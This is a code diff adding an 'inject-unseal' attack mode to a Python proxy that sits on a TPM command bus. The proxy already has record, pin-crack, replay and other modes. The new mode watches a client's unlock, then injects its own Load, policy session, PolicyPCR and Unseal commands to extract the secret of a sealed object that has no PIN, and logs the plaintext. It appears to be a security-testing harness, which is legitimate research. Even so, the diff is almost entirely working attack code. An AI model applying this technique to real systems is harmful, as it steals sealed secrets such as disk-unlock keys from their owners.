@@ -69,6 +69,21 @@ ContextSave) goes to that key and the genuine EK signing key certifies it:
     owner seed survives a TPM reset, so the same key answers before and after
     one, which would hide a reset from a boot anchor.
 
+inject-unseal (issue 14): the proxy watches a normal unlock (the client's own
+sessions stay untouched), remembers the sealed object's Load (parent, and the
+owner CreatePrimary template when the parent is transient), the PolicyPCR
+selection and whether the client ran PolicyAuthValue/PolicyPassword. Once
+the client has flushed the sealed object (its unlock is over; the same boot,
+so the PCRs still hold the values the policy wants), it sends commands of
+its own on the bus, before the client's next command: the
+parent again (CreatePrimary, empty owner password) if it was transient, Load,
+StartAuthSession (policy, unsalted, unbound: no key it would have to trust),
+PolicyPCR, Unseal, and FlushContext for what it made. A policy that needs no
+secret (a no-PIN token) unseals for it: the secret is in its findings
+(plaintexts[].unsealed, in_clear). A policy with PolicyAuthValue needs the
+object's authValue (the PIN's): the proxy holds none, skips it, and the TPM
+refuses Unseal (a policy digest mismatch, which costs no DA try).
+
 Other modes: record, pin-crack, tamper, reset, drop, replay, mutate; see --help.
 Modes combine: --mode substitute,pin-crack.
 """
@@ -93,7 +108,7 @@ import mutate as mt
 import tpmwire as tw
 
 MODES = ("record", "substitute", "loaded-key", "zgen-key", "owner-key", "pin-crack", "tamper", "reset", "drop",
-         "replay", "mutate")
+         "replay", "mutate", "inject-unseal")
 SWTPM_CMD_INIT = 2
 SUBSTITUTE_HIERARCHIES = (tw.TPM_RH_NULL, tw.TPM_RH_OWNER, tw.TPM_RH_ENDORSEMENT)
 
@@ -384,6 +399,12 @@ class Proxy:
             self.mutate_spec = {"seed": args.mutate_seed, "at": args.mutate_at, "kind": args.mutate_kind}
             self.findings.data["mutate"] = {"spec": self.mutate_spec, "responses": 0}
         self.zgen_keys = {}        # (x, y) -> Public of a NULL primary the TPM runs ECDH_ZGen with (zgen-key)
+        # inject-unseal: what a normal unlock showed on the bus
+        self.inject_primaries = {}  # transient handle -> TPM2B_PUBLIC (raw) of an owner CreatePrimary
+        self.inject_target = None   # {conn, parent, parent_public, in_private, in_public}
+        self.inject_pcrs = None     # TPML_PCR_SELECTION (raw) of the client's PolicyPCR
+        self.inject_needs_auth = False
+        self.inject_done = False
 
     # -- logging/recording --
 
@@ -1084,6 +1105,12 @@ class Proxy:
             upstream_resp = self.transact(upstream, to_tpm)
             if cc == 0x182 and tw.read_header(upstream_resp)[2] == 0:
                 self.pcr_extends.append(to_tpm)
+            if "inject-unseal" in self.modes and cmd is not None and cmd.known:
+                try:
+                    if self.inject_observe(cmd, upstream_resp):
+                        self.inject_unseal(upstream)
+                except tw.WireError as e:
+                    self.findings.add("errors", {"seq": seq, "command": cmd.name, "error": "inject-unseal: %s" % e})
             out = upstream_resp
             resp = None
             if cmd is not None and cmd.known:
@@ -1225,6 +1252,141 @@ class Proxy:
         finally:
             client.close()
             upstream.close()
+            self.findings.write()
+
+    # -- inject-unseal --
+
+    def inject_observe(self, cmd, raw_resp):
+        """Remembers what the injected unseal needs from the client's unlock; True when the client
+        has just flushed the sealed object (after its Unseal): the moment to inject. Not at the
+        close of a connection: the swtpm TCTI connects once per command."""
+        tag, _, rc = tw.read_header(raw_resp)
+        if rc != 0:
+            return False
+        if cmd.cc == 0x131 and cmd.handles == [tw.TPM_RH_OWNER]:
+            # CreatePrimary: inSensitive (maybe encrypted; the proxy makes its own, empty), inPublic.
+            rd = tw.Reader(cmd.params)
+            rd.tpm2b()
+            start = rd.pos
+            rd.tpm2b()
+            resp = tw.Response(raw_resp, cmd.cc, len(cmd.auths))
+            if resp.handles:
+                self.inject_primaries[resp.handles[0]] = cmd.params[start:rd.pos]
+        elif cmd.cc == 0x157:
+            # Load: inPrivate (sealed by the parent, sent as is), inPublic; only a sealed data object.
+            rd = tw.Reader(cmd.params)
+            in_private = rd.tpm2b()
+            start = rd.pos
+            pub = rd.tpm2b()
+            resp = tw.Response(raw_resp, cmd.cc, len(cmd.auths))
+            if len(pub) >= 2 and struct.unpack(">H", pub[:2])[0] == tw.TPM_ALG_KEYEDHASH and resp.handles \
+                    and not self.inject_done:
+                parent = cmd.handles[0]
+                self.inject_target = {"handle": resp.handles[0], "parent": parent,
+                                      "parent_public": self.inject_primaries.get(parent),
+                                      "in_private": in_private, "in_public": cmd.params[start:rd.pos]}
+                self.inject_pcrs = None
+                self.inject_needs_auth = False
+        elif cmd.cc == 0x17F and self.inject_target:
+            rd = tw.Reader(cmd.params)
+            rd.tpm2b()
+            self.inject_pcrs = cmd.params[rd.pos:]
+        elif cmd.cc in (0x16B, 0x18C) and self.inject_target:
+            self.inject_needs_auth = True
+        elif cmd.cc == 0x165 and self.inject_target and not self.inject_done \
+                and cmd.params == tw.u32(self.inject_target["handle"]):
+            self.inject_done = True
+            return True
+        return False
+
+    @staticmethod
+    def pw_command(cc, handles, params):
+        """A command with one empty password session (TPM_RS_PW)."""
+        auth = tw.AuthCommand(tw.TPM_RS_PW, b"", 0, b"").marshal()
+        body = b"".join(tw.u32(h) for h in handles) + tw.u32(len(auth)) + auth + params
+        return tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body)) + tw.u32(cc) + body
+
+    def inject_unseal(self, upstream):
+        """The attack: Load, PolicyPCR and Unseal of the client's sealed object, in the proxy's own
+        unsalted, unbound policy session (no key to verify, no secret but the object's authValue)."""
+        t = self.inject_target
+        steps = []
+        made = []  # handles to flush
+
+        def step(name, raw):
+            resp = self.transact(upstream, raw)
+            rc = tw.read_header(resp)[2]
+            steps.append({"command": name, "rc": hh(rc)})
+            self.record({"seq": None, "conn": "inject", "dir": "command", "command": name, "hex": raw.hex(),
+                         "injected": True})
+            self.record({"seq": None, "conn": "inject", "dir": "response", "command": name, "rc": hh(rc),
+                         "hex": resp.hex(), "injected": True})
+            return resp, rc
+
+        result, unsealed = "refused", None
+        try:
+            parent = t["parent"]
+            if parent >> 24 == 0x80:
+                if not t["parent_public"]:
+                    result = "no parent: its CreatePrimary was not seen"
+                    return
+                params = tw.tpm2b(tw.tpm2b(b"") + tw.tpm2b(b"")) + t["parent_public"] + tw.tpm2b(b"") + tw.u32(0)
+                resp, rc = step("CreatePrimary", self.pw_command(0x131, [tw.TPM_RH_OWNER], params))
+                if rc != 0:
+                    return
+                parent = tw.Response(resp, 0x131, 1).handles[0]
+                made.append(parent)
+            resp, rc = step("Load", self.pw_command(0x157, [parent], tw.tpm2b(t["in_private"]) + t["in_public"]))
+            if rc != 0:
+                return
+            r = tw.Response(resp, 0x157, 1)
+            obj = r.handles[0]
+            obj_name = tw.Reader(r.params).tpm2b()
+            made.append(obj)
+            nonce_caller = os.urandom(32)
+            params = (tw.tpm2b(nonce_caller) + tw.tpm2b(b"") + bytes([0x01]) + tw.u16(tw.TPM_ALG_NULL)
+                      + tw.u16(tw.TPM_ALG_SHA256))
+            resp, rc = step("StartAuthSession", tw.build_command(0x176, [tw.TPM_RH_NULL, tw.TPM_RH_NULL], params))
+            if rc != 0:
+                return
+            r = tw.Response(resp, 0x176, 0)
+            session = r.handles[0]
+            nonce_tpm = tw.Reader(r.params).tpm2b()
+            made.append(session)
+            if self.inject_pcrs is not None:
+                resp, rc = step("PolicyPCR", tw.build_command(0x17F, [session], tw.tpm2b(b"") + self.inject_pcrs))
+                if rc != 0:
+                    return
+            if self.inject_needs_auth:
+                # PolicyAuthValue would need the object's authValue for Unseal's HMAC: the PIN's,
+                # which this proxy does not hold. Without it the policy digest does not match.
+                steps.append({"command": "PolicyAuthValue", "skipped": "the object's authValue (PIN) is unknown"})
+            # Unseal: the session key is empty (unsalted, unbound) and no authValue is in the policy.
+            nonce = os.urandom(32)
+            attrs = 0
+            cp = tw.cp_hash(tw.TPM_ALG_SHA256, 0x15E, [obj_name], b"")
+            mac = tw.session_hmac(tw.TPM_ALG_SHA256, b"", cp, nonce, nonce_tpm, b"", attrs)
+            auth = tw.AuthCommand(session, nonce, attrs, mac).marshal()
+            body = tw.u32(obj) + tw.u32(len(auth)) + auth
+            raw = tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body)) + tw.u32(0x15E) + body
+            resp, rc = step("Unseal", raw)
+            if rc != 0:
+                return
+            made.remove(session)  # continueSession clear: ended by the TPM
+            out = tw.Reader(tw.Response(resp, 0x15E, 1).params).tpm2b()
+            unsealed = out
+            result = "unsealed"
+        finally:
+            for h in made:
+                try:
+                    self.transact(upstream, tw.build_command(0x165, params=tw.u32(h)))
+                except (OSError, ConnectionError, TimeoutError):
+                    break
+            self.attack(attack="inject-unseal", result=result, needs_auth=self.inject_needs_auth, steps=steps)
+            if unsealed is not None:
+                item = {"command": "Unseal", "direction": "response", "session": None, "data": hx(unsealed),
+                        "in_clear": True, "unsealed": hx(unsealed), "injected": True}
+                self.findings.add("plaintexts", item)
             self.findings.write()
 
     def pump_ctrl(self, client):
